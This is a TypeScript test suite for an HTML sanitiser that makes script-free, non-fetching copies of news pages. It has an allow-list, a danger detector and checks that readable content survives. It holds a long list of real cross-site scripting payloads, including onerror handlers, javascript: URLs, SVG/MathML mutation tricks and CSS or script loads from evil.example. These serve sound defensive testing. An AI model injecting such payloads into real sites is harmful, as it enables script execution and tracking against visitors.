import { JSDOM } from 'jsdom';
import { describe, expect, it, vi } from 'vitest';
import { safeCopy } from '@/lib/domain/source/safe-copy';
import { wordsOfHtml } from '@/lib/domain/source/words-of-copy/from-html';

// A browser's parser in JavaScript is slow, and many pages are put to it.
vi.setConfig({ testTimeout: 30_000 });

const url = 'https://daily.example/news/bridge';
const copyOf = (html: string) => new JSDOM(safeCopy(html, { url })).window.document;
const bodyOf = (html: string) => copyOf(html).body.innerHTML.trim();

/** All that may stand in a copy; written anew here, so that a slip in the one shows in the other. */
const elements = new Set(
  'html head meta title style body a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main mark menu nav ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const attributes = new Set(
  'abbr align alt border cellpadding cellspacing charset class colspan content datetime dir headers height id lang media name open reversed rowspan scope span src start style title translate type valign value width'.split(
    ' ',
  ),
);

/** What of the copy could run, fetch or lead anywhere, as a browser's parser sees it. */
function dangersIn(document: Document): string[] {
  return [...document.querySelectorAll('*')].flatMap((element) => {
    const tag = element.localName;
    const dangers: string[] = [];
    if (!elements.has(tag)) dangers.push(`<${tag}>`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') dangers.push(`${tag} of XML`);
    for (const { name, value } of element.attributes) {
      const isOwn = tag === 'meta' && (name === 'name' || name === 'content');
      if (!attributes.has(name) || (name === 'name' && !isOwn)) dangers.push(`${tag} ${name}`);
      if (name === 'src' && !/^data:image\//.test(value)) dangers.push(`src ${value}`);
      if (name === 'style' && /url\((?!"data:)|@|</.test(value)) dangers.push(`style ${value}`);
    }
    const sheet = tag === 'style' ? (element.textContent ?? '') : '';
    if (/url\((?!"data:)|@import|<|expression/i.test(sheet)) dangers.push(`sheet ${sheet}`);
    return dangers;
  });
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script><SCRIPT\n>x</SCRIPT\n>',
  '<script>"</script><img src=x onerror=alert(1)>"',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x" lowsrc=x dynsrc=x>',
  '<img src=" java\tscript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img alt="` onerror=alert(1) x" name="body" id="body">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#y"/><image href="https://evil.example/x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><img src="https://evil.example/x"><style>@import "https://evil.example"</style></noscript>',
  '<template><script>alert(1)</script></template><div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<style>@import "https://evil.example/x.css"; a{background:url(https://evil.example/x)}</style>',
  '<style>a{content:"</style><img src=x onerror=alert(1)>"}</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<style media="print" onload=alert(1)>a{width:expression(alert(1))}</style>',
  '<style>a{}</style ><script>alert(1)</script>',
  '<style>',
  '<p style="background:url(https://evil.example/x);behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="background:u\\72l(https://evil.example/x);width:expression(alert(1))">x</p>',
  '<p style="a:b</style><script>alert(1)</script>">x</p>',
  '<p onclick=alert(1) onmouseover="alert(1)" ONFOCUS=alert(1) tabindex=0 autofocus contenteditable>x</p>',
  '<a href="javascript:alert(1)" ping="https://evil.example/ping" target=_blank download>x</a>',
  '<a href="java&#10;script:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a>',
  '<a href="https://daily.example/a" title="kept">x</a><area href="javascript:alert(1)">',
  '<base href="https://evil.example/"><base target=_top>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><meta charset=utf-7>',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=preload as=script href=x><link rel=dns-prefetch href=//evil.example>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="https://evil.example/x"><param name=movie value=x></object><embed src=x><applet code=x>',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">Send</button><isindex></form>',
  '<input type=image src="https://evil.example/x" onerror=alert(1)><textarea></textarea><img src=x onerror=alert(1)>',
  '<video poster="https://evil.example/x" src=x onerror=alert(1)><source src=x><track src=x></video><audio src=x autoplay>',
  '<body onload=alert(1) background="https://evil.example/x"><table background=x><td background=x>x',
  '<html onmouseover=alert(1) manifest=x><head profile=x>',
  '<title></title><script>alert(1)</script></title><title>a</title><script>x</script>',
  '<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<select><option><img src=x onerror=alert(1)></select><select><style></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>',
  '<p title="a&quot;><img src=x onerror=alert(1)>">x</p><p title=`"><img src=x onerror=alert(1)>`>x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p><p class='\" onclick=alert(1) \"'>x</p>",
  '<table><tr><td></tr><img src=x onerror=alert(1)></table><table><a href=javascript:x>y</a></table>',
  '<div id="__proto__"><p class="constructor" __proto__="x">x</p></div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
  '<x-element onclick=alert(1)><slot onslotchange=alert(1)>x</slot></x-element><marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)><dialog open onclose=alert(1)>x</dialog><details ontoggle=alert(1) open>x</details>',
  '<portal src=x></portal><fencedframe></fencedframe><picture><source srcset="https://evil.example/x"><img></picture>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><img\u0000src=x onerror=alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

describe('a copy of a hostile page', () => {
  it.each(hostile.map((html) => [html]))('can do nothing: %s', (html) => {
    expect(dangersIn(copyOf(html))).toEqual([]);
    expect(dangersIn(copyOf(`<!doctype html><html><head>${html}</head><body>${html}<p>x`))).toEqual(
      [],
    );
  });

  it('can do nothing, however its parts are put together', () => {
    let seed = 11;
    const next = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return seed % below;
    };
    for (let round = 0; round < 150; round++) {
      const html = Array.from({ length: 4 }, () => {
        const part = hostile[next(hostile.length)] ?? '';
        return part.slice(next(part.length), part.length - next(part.length / 2));
      }).join('');
      expect({ html, dangers: dangersIn(copyOf(html)) }).toEqual({ html, dangers: [] });
    }
  });

  it('reads the same when a browser has read it and written it', () => {
    for (const html of hostile) {
      const once = copyOf(html).documentElement.outerHTML;
      expect(dangersIn(new JSDOM(once).window.document)).toEqual([]);
    }
  });

  it('is made in bounded time, however long or deep the page is', () => {
    const start = performance.now();
    safeCopy('<div><b>'.repeat(200_000), { url: null });
    safeCopy(`<style>${'a{b:url('.repeat(100_000)}</style>`, { url: null });
    safeCopy(`<img src="data:image/png;base64,${'A'.repeat(4_000_000)}">`, { url: null });
    expect(performance.now() - start).toBeLessThan(4_000);
  });
});

describe('a copy of a page', () => {
  it('keeps what a reader sees of it', () => {
    const page =
      '<h1 class="big" id="top">The bridge</h1><p lang="sv">Bron <b>öppnade</b> 1932.<br>Ja.</p><table><tbody><tr><th colspan="2" scope="col">År</th></tr></tbody></table><ol start="3"><li>x</li></ol>';
    expect(bodyOf(page)).toBe(page);
  });

  it('shows where its links lead, and leads nowhere', () => {
    expect(bodyOf('<a href="../a?b=1&amp;c">see</a><a href="/x" title="Own">x</a>')).toBe(
      '<a title="https://daily.example/a?b=1&amp;c">see</a><a title="Own">x</a>',
    );
  });

  it('has the pictures that are written into it, and tells of the others', () => {
    const picture = 'data:image/png;base64,iVBORw0KGgo=';
    expect(
      bodyOf(`<img src="${picture}" alt=""><img src="https://a.example/x" alt="A graph">`),
    ).toBe(`<img alt="" src="${picture}"><img alt="A graph">`);
  });

  it('has its own style sheets, after those of the desk', () => {
    const styles = [
      ...copyOf(
        '<head><style media="screen">p{color:red}</style><body><style>b{x:y}</style><p>x',
      ).head.querySelectorAll('style'),
    ];
    expect(styles.slice(1).map(({ textContent, media }) => [textContent, media])).toEqual([
      ['p{color:red}', 'screen'],
      ['b{x:y}', ''],
    ]);
  });

  it('keeps its title, its language and its direction, and is in UTF-8', () => {
    const copy = copyOf(
      '<html lang="ar" dir="rtl"><head><meta charset="windows-1256"><title>الجسر &amp; x</title></head><body class="news">الجسر',
    );
    expect(copy.title).toBe('الجسر & x');
    expect(copy.documentElement.outerHTML).toMatch(
      /^<html dir="rtl" lang="ar">\s*<head>\s*<meta charset="utf-8">/,
    );
    expect(copy.body.className).toBe('news');
  });

  it('shows what is folded away, and not what is hidden', () => {
    expect(bodyOf('<details><summary>More</summary>Words</details><p hidden>Not</p>')).toBe(
      '<details open=""><summary>More</summary>Words</details>',
    );
  });

  it('has the words that are read in it, in the same order', () => {
    const page = `<!doctype html><html><head><title>t</title></head><body><nav><a href="/">Home</a></nav>
      <h1>The bridge</h1><my-part><p>It opened in <i>19</i>32.</p></my-part><button>Fold out</button>
      <figure><img src=x alt="not words"><figcaption>Green.</figcaption></figure><svg><text>no</text></svg>
      <table><tr><td>1932</td><td>4,000</td></tr></table><p style="display:none">no</p><p aria-hidden=true>Seen.</p>
      <form><label>Name <input value="no"></label><select><option>no</select></form><noscript>no</noscript>`;
    const squeezed = (text: string | null) => (text ?? '').replace(/[\s|]+/g, '');
    expect(squeezed(copyOf(page).body.textContent)).toBe(squeezed(wordsOfHtml(page, url).text));
    expect(squeezed(copyOf(page).body.textContent)).toBe(
      'HomeThebridgeItopenedin1932.FoldoutGreen.19324,000Seen.Name',
    );
  });
});
